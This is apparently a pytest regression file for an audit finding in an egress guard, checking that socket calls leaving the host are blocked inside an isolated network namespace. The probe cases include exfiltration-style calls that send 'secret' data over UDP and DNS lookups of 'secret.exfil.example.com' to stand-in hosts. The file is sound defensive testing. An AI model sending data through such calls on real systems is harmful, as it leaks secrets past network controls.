"""Finding 15: the egress guard missed ``socket.sendmsg`` with an address and ``socket.getnameinfo``.

Thinking like an attacker who can make the gateway process run a socket call (a library, a plugin, a
template feature): every way Python's socket module lets a datagram or a lookup leave the host. Each
case runs in a child process (an audit hook cannot be removed) in an empty network namespace
(``unshare -n``, loopback only), so a guard that misses a case shows as an OSError from the namespace,
never as traffic, and the test tells the two apart.
"""

from __future__ import annotations

import subprocess
import sys
import textwrap

import pytest

PROBE = textwrap.dedent(
    """
    import socket, sys
    from bastion.errors import EgressBlocked
    from bastion.serve.egress import install_egress_guard
    install_egress_guard([])
    OUT = ("192.0.2.1", 53)
    def udp():
        return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    def loopback_udp():
        srv = udp(); srv.bind(("127.0.0.1", 0))
        cli = udp(); cli.connect(srv.getsockname())
        return cli
    CASES = {
        "sendmsg-address": lambda: udp().sendmsg([b"secret"], [], 0, OUT),
        "sendmsg-mapped-v6": lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendmsg(
            [b"secret"], [], 0, ("::ffff:192.0.2.1", 53)),
        "getnameinfo": lambda: socket.getnameinfo(OUT, 0),
        "getnameinfo-name": lambda: socket.getnameinfo(("exfil.example.com", 53), 0),
        "gethostbyname_ex": lambda: socket.gethostbyname_ex("secret.exfil.example.com"),
        "gethostbyaddr": lambda: socket.gethostbyaddr("192.0.2.1"),
        "connect_ex": lambda: socket.socket().connect_ex(("192.0.2.1", 443)),
        "sendto-broadcast": lambda: udp().sendto(b"secret", ("<broadcast>", 53)),
        "raw-icmp": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
        "sendmsg-connected-loopback": lambda: loopback_udp().sendmsg([b"fine"]),
        "sendmsg-to-loopback": lambda: udp().sendmsg([b"fine"], [], 0, ("127.0.0.1", 9)),
        "getnameinfo-loopback": lambda: socket.getnameinfo(("127.0.0.1", 80), socket.NI_NUMERICHOST),
        "unix-socketpair": lambda: (lambda a, b: a.sendmsg([b"fine"]))(*socket.socketpair()),
    }
    try:
        CASES[sys.argv[1]]()
    except EgressBlocked:
        print("blocked")
    except OSError as exc:
        print(f"oserror:{exc.errno}")
    else:
        print("ok")
    """
)


def run_probe(case: str) -> str:
    result = subprocess.run(
        ["unshare", "-n", "sh", "-c", 'ip link set lo up && exec "$0" "$@"', sys.executable, "-c", PROBE, case],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


@pytest.mark.parametrize(
    "case",
    [
        "sendmsg-address",
        "sendmsg-mapped-v6",
        "getnameinfo",
        "getnameinfo-name",
        "gethostbyname_ex",
        "gethostbyaddr",
        "connect_ex",
        "sendto-broadcast",
        "raw-icmp",
        "packet",
    ],
)
def test_every_way_out_of_the_host_is_refused_by_the_guard(case: str) -> None:
    assert run_probe(case) == "blocked"


@pytest.mark.parametrize(
    "case", ["sendmsg-connected-loopback", "sendmsg-to-loopback", "getnameinfo-loopback", "unix-socketpair"]
)
def test_loopback_and_local_sockets_still_work(case: str) -> None:
    assert run_probe(case) == "ok"
